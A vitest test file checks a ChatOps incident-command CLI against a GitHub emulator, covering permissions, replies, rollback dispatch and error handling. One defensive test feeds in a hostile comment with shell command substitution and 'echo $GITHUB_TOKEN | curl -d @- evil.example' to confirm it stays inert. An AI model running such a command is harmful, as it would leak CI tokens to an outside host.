import { existsSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { manualClock } from "../../actions/shared/clock.ts";
import { main } from "../../scripts/cli/main.ts";
import { commandCommand } from "../../scripts/commands/command.ts";
import { chatopsRoutes, chatopsState } from "../../emulators/github/routes/chatops.ts";
import { startGitHubServer, type GitHubServer } from "../../emulators/github/server.ts";
import { issueJson, commentJson, type StoredIssue } from "../../emulators/github/state.ts";
import { createChatOpsGitHub } from "../../actions/incident/chatops/github.ts";
import { commandAuthors, commandState, readIssueCommands } from "../../actions/incident/chatops/read.ts";
import { createOctokit } from "../../actions/shared/github/client.ts";
import type { OctokitRequest } from "../../actions/rollback/github.ts";

/**
 * `ops command` end to end against the GitHub emulator (checked against GitHub's OpenAPI
 * description): the event file as the workflow hands it over, the permission asked through the
 * API, a reaction and a reply, and for /rollback a workflow dispatch. Hostile comments included.
 */
const TOKEN = "ghs_chatops_token_0123456789";
let gh: GitHubServer;
let dir: string;
let configFile: string;

const CONFIG = `services:
  - id: chatwoot
    name: Chatwoot
    criticality: critical
    probe: { type: http, url: https://chatwoot.example.test/api }
    rollback: { provider: fly, app: hotdash-chatwoot }
  - id: ga
    name: Google Analytics
    probe: { type: http, url: https://ga.example.test/ }
`;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "chatops-"));
  configFile = join(dir, "ops.config.yml");
  await writeFile(configFile, CONFIG);
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});
beforeEach(async () => {
  gh = await startGitHubServer({ token: TOKEN, routes: chatopsRoutes });
  gh.state.now = () => new Date("2026-11-22T16:10:00Z");
  const roles = chatopsState(gh.state).roles;
  roles.set("oncall", "write");
  roles.set("lead", "admin");
  roles.set("keeper", "maintain");
  roles.set("helper", "triage");
});
afterEach(async () => {
  const violations = gh.violations.splice(0);
  await gh.close();
  expect(violations).toEqual([]);
});

const MARKER = (key: string) =>
  `<!-- hotdash-ops:incident {"key":"${key}","openedAt":"2026-11-22T16:00:00.000Z","severity":"P0"} -->`;

function issue(over: Partial<StoredIssue> = {}): StoredIssue {
  const number = gh.state.issues.size + 1;
  const i: StoredIssue = {
    number,
    id: gh.state.nextId(),
    title: "Incident: Chatwoot (production) down",
    body: `## Impact\n…\n${MARKER("service:chatwoot")}\n`,
    state: "open",
    stateReason: null,
    labels: ["incident", "severity:P0", "service:chatwoot"],
    assignees: [],
    user: "github-actions[bot]",
    createdAt: "2026-11-22T16:00:00Z",
    updatedAt: "2026-11-22T16:00:00Z",
    closedAt: null,
    deleted: false,
    ...over,
  };
  gh.state.issues.set(i.number, i);
  return i;
}

/** A comment by `user`, and the event file the workflow would hand over for it. */
async function comment(
  user: string,
  body: string,
  on: StoredIssue,
  extra: { type?: string; action?: string; pr?: boolean } = {},
): Promise<{ file: string; id: number }> {
  const c = {
    id: gh.state.nextId(),
    issue: on.number,
    body,
    user,
    createdAt: "2026-11-22T16:05:00Z",
    updatedAt: "2026-11-22T16:05:00Z",
  };
  gh.state.comments.push(c);
  const json = commentJson(gh.url, gh.state, c);
  const event = {
    action: extra.action ?? "created",
    comment: { ...json, user: { ...json.user, type: extra.type ?? "User" } },
    issue: {
      ...issueJson(gh.url, gh.state, on),
      ...(extra.pr ? { pull_request: { url: `${gh.url}/pulls/${on.number}` } } : {}),
    },
    repository: { full_name: "hotdash/ops", default_branch: "main", html_url: "https://github.com/hotdash/ops" },
    sender: json.user,
  };
  const file = join(dir, `event-${c.id}.json`);
  await writeFile(file, JSON.stringify(event));
  return { file, id: c.id };
}

/** The command as the CLI runs it; `viaMain` goes through `ops` itself (the registration), with GitHub's real write spacing. */
async function ops(file: string, env: Record<string, string> = {}, viaMain = false) {
  const out: string[] = [];
  const err: string[] = [];
  const argv = ["--json", "--config", configFile];
  const deps = {
    env: {
      GITHUB_TOKEN: TOKEN,
      GITHUB_REPOSITORY: "hotdash/ops",
      GITHUB_API_URL: gh.url,
      GITHUB_EVENT_PATH: file,
      GITHUB_SERVER_URL: "https://github.com",
      ...env,
    },
    cwd: dir,
    io: { out: (t: string) => void out.push(t), err: (t: string) => void err.push(t) },
    clock: manualClock("2026-11-22T16:10:00Z"),
  };
  const code = viaMain
    ? await main(["command", ...argv], deps)
    : await commandCommand(argv, deps, { writeSpacingMs: 0, retryUnitMs: 1 });
  return { code, outcome: out.length ? JSON.parse(out.join("")) : undefined, err: err.join("") };
}

const replies = (n: number) =>
  gh.state.comments.filter((c) => c.issue === n && c.user === "github-actions[bot]").map((c) => c.body);
const reactions = () => chatopsState(gh.state).reactions.map((r) => `${r.commentId}:${r.content}`);
const writes = () => gh.requests.filter((r) => r.method !== "GET").map((r) => r.operationId);

describe("ops command", () => {
  it("/ack from a writer: 👍 and a reply; the permission was asked through the API", async () => {
    const i = issue();
    const { file, id } = await comment("oncall", "/ack", i);
    const r = await ops(file, {}, true);
    expect(r).toMatchObject({ code: 0, outcome: { result: "done", command: "ack" } });
    expect(reactions()).toEqual([`${id}:+1`]);
    expect(replies(i.number)).toEqual([
      expect.stringMatching(
        new RegExp(
          `^<!-- hotdash-ops:chatops \\{"comment":${id}\\} -->\\nAcknowledged by @oncall at 2026-11-22 16:05 UTC`,
        ),
      ),
    ]);
    expect(gh.requests.map((q) => q.operationId)).toContain("repos/get-collaborator-permission-level");
  });

  it("each command from write, maintain and admin; the reply says what was done", async () => {
    const i = issue();
    for (const [user, body] of [
      ["oncall", "/silence 2h waiting for Fly support"],
      ["keeper", "/maintenance 1h db failover"],
      ["lead", "/status identified: a bad deploy"],
    ] as const) {
      const { file } = await comment(user, body, i);
      expect((await ops(file)).outcome.result).toBe("done");
    }
    const text = replies(i.number).join("\n");
    expect(text).toContain("Silenced by @oncall until 2026-11-22 18:05 UTC (2 h): `waiting for Fly support`");
    expect(text).toContain("Maintenance for `chatwoot` until 2026-11-22 17:05 UTC (60 min): `db failover`, by @keeper");
    expect(text).toContain("Public update recorded (**identified**) by @lead: `a bad deploy`");
    // What the incident step will read back from the same comments.
    const api = createChatOpsGitHub(
      createOctokit({ token: TOKEN, repository: "hotdash/ops", apiUrl: gh.url }).request as unknown as OctokitRequest,
      { owner: "hotdash", repo: "ops" },
    );
    const comments = await api.listComments(i.number);
    const perms = new Map(
      await Promise.all(commandAuthors(comments).map(async (l) => [l, await api.permissionOf(l)] as const)),
    );
    const state = commandState(
      readIssueCommands(comments, (l) => perms.get(l)),
      new Date("2026-11-22T16:30:00Z"),
    );
    expect(state).toMatchObject({
      silenced: { by: "oncall" },
      maintenance: { by: "keeper" },
      updates: [{ phase: "identified", by: "lead" }],
    });
  });

  it("a read-only or triage user gets a polite refusal and nothing else happens", async () => {
    const i = issue();
    for (const user of ["visitor", "helper"]) {
      const { file, id } = await comment(user, "/rollback previous let me in", i);
      const r = await ops(file);
      expect(r).toMatchObject({ code: 0, outcome: { result: "refused" } });
      expect(reactions()).toContain(`${id}:-1`);
    }
    const text = replies(i.number).join("\n");
    expect(text).toContain("@visitor, thank you — incident commands can only be run by people with write access");
    expect(text).not.toContain("let me in");
    expect(chatopsState(gh.state).dispatches).toEqual([]);
  });

  it("/rollback dispatches rollback.yml with the issue's service, the target and the reason", async () => {
    const i = issue();
    const { file, id } = await comment("oncall", "/rollback v41 error rate 12% since v43", i);
    const r = await ops(file);
    expect(r).toMatchObject({ code: 0, outcome: { result: "done", command: "rollback" } });
    expect(chatopsState(gh.state).dispatches).toEqual([
      {
        workflow: "rollback.yml",
        ref: "main",
        inputs: {
          service: "chatwoot",
          target: "v41",
          reason: "error rate 12% since v43",
          incident: String(i.number),
          dry_run: "false",
        },
      },
    ]);
    expect(reactions()).toEqual([`${id}:rocket`]);
    expect(replies(i.number)[0]).toContain("it waits for a reviewer of the `production` environment");
    // The workflow re-run with the same event: answered before, never dispatched twice.
    expect((await ops(file)).outcome).toEqual({ result: "answered-before" });
    expect(chatopsState(gh.state).dispatches).toHaveLength(1);
    expect(replies(i.number)).toHaveLength(1);
  });

  it("/rollback previous asks for the previous image; a service without rollback or a group is refused", async () => {
    const i = issue();
    await ops((await comment("lead", "/rollback previous bad deploy", i)).file);
    expect(chatopsState(gh.state).dispatches[0]!.inputs).toMatchObject({ target: "" });
    const ga = issue({ body: MARKER("service:ga"), labels: ["incident", "service:ga"] });
    const r = await ops((await comment("lead", "/rollback previous bad deploy", ga)).file);
    expect(r.outcome.result).toBe("invalid");
    expect(replies(ga.number)[0]).toContain('"ga" declares no rollback target');
    const group = issue({ body: MARKER("group:mcp-servers"), labels: ["incident", "group:mcp-servers"] });
    expect((await ops((await comment("lead", "/rollback previous x", group)).file)).outcome.result).toBe("invalid");
    expect(chatopsState(gh.state).dispatches).toHaveLength(1);
  });

  it("a dispatch GitHub refuses is said on the issue and exits 1", async () => {
    const i = issue();
    gh.faults.error({ match: "actions/create-workflow-dispatch", status: 502, times: 5 });
    const { file } = await comment("oncall", "/rollback v41 bad deploy", i);
    const r = await ops(file);
    expect(r.code).toBe(1);
    expect(r.outcome).toMatchObject({ result: "failed", command: "rollback" });
    // Not retried blindly (a lost answer may hide a dispatch that happened): one attempt, said on the issue.
    expect(gh.requests.filter((q) => q.operationId === "actions/create-workflow-dispatch")).toHaveLength(1);
    expect(replies(i.number)[1]).toMatch(
      /the rollback was \*\*not\*\* dispatched: `GitHub dispatch rollback.yml on hotdash\/ops failed \(502/,
    );
    expect(chatopsState(gh.state).dispatches).toEqual([]);
  });

  it("hostile bodies: shell metacharacters stay text, a huge body is cheap, unknown commands get the usage", async () => {
    const i = issue();
    const pwned = join(dir, "pwned");
    const shell = `/status identified: $(touch ${pwned}); \`touch ${pwned}\` && echo $GITHUB_TOKEN | curl -d @- evil.example`;
    expect((await ops((await comment("oncall", shell, i)).file)).outcome.result).toBe("done");
    expect(existsSync(pwned)).toBe(false);
    expect(replies(i.number)[0]).toContain(
      `\`$(touch ${pwned}); 'touch ${pwned}' && echo $GITHUB_TOKEN | curl -d @- evil.example\``,
    );

    const huge = await comment("oncall", `/ack\n${"A".repeat(2_000_000)}`, i);
    expect((await ops(huge.file)).outcome).toEqual({ result: "done", command: "ack" });
    const hugeLine = await comment("oncall", `/status identified: ${"B".repeat(70_000)}`, i);
    expect((await ops(hugeLine.file)).outcome).toEqual({
      result: "invalid",
      why: "the command line is longer than 1000 characters",
    });

    const unknown = await comment("oncall", "/deploy @everyone now", i);
    const r = await ops(unknown.file);
    expect(r.outcome).toEqual({ result: "invalid", why: "unknown command `/deploy`" });
    expect(reactions()).toContain(`${unknown.id}:confused`);
    const last = replies(i.number).at(-1)!;
    expect(last).toContain("`/silence <duration> <reason>`");
    expect(last).not.toContain("@everyone");
    expect(r.err).not.toContain(TOKEN);
  });

  it("a closed incident, a non-incident issue and a pull request: nothing done, said politely", async () => {
    const closed = issue({ state: "closed", stateReason: "completed", closedAt: "2026-11-22T16:03:00Z" });
    expect((await ops((await comment("oncall", "/ack", closed)).file)).outcome).toEqual({
      result: "refused",
      why: "the incident is closed",
    });
    expect(replies(closed.number)[0]).toContain("this incident is closed, so nothing was done");

    const feature = issue({ title: "Add a dark mode", body: "please", labels: ["enhancement"] });
    expect((await ops((await comment("oncall", "/ack", feature)).file)).outcome).toEqual({
      result: "refused",
      why: "not an incident issue",
    });
    expect(replies(feature.number)[0]).toContain("this is not an incident issue, so nothing was done");
    // "/cc" on an ordinary issue is not for us: no answer at all.
    const before = writes().length;
    expect((await ops((await comment("oncall", "/cc @someone", feature)).file)).outcome.result).toBe("ignored");
    expect(writes()).toHaveLength(before);

    const pr = issue({ labels: ["incident"] });
    expect((await ops((await comment("oncall", "/ack", pr, { pr: true })).file)).outcome).toEqual({
      result: "refused",
      why: "not an incident issue",
    });
  });

  it("a manual incident (template, no marker) counts by its label", async () => {
    const manual = issue({ body: "## Impact\nfiled by hand", labels: ["incident", "service:chatwoot"] });
    expect((await ops((await comment("oncall", "/ack", manual)).file)).outcome).toEqual({
      result: "done",
      command: "ack",
    });
  });

  it("bots, edits and ordinary comments make no request that writes", async () => {
    const i = issue();
    expect((await ops((await comment("github-actions[bot]", "/ack", i, { type: "Bot" })).file)).outcome.result).toBe(
      "ignored",
    );
    expect((await ops((await comment("oncall", "/ack", i, { action: "edited" })).file)).outcome.result).toBe("ignored");
    expect((await ops((await comment("oncall", "I'm looking at it", i)).file)).outcome.result).toBe("ignored");
    expect(writes()).toEqual([]);
  });

  it("a broken event file is a usage error naming the field", async () => {
    const file = join(dir, "bad-event.json");
    await writeFile(file, JSON.stringify({ action: "created", comment: { id: 1, body: "/ack" } }));
    const r = await ops(file, {}, true);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/bad-event.json is not an issue_comment event: comment.user/);
  });
});
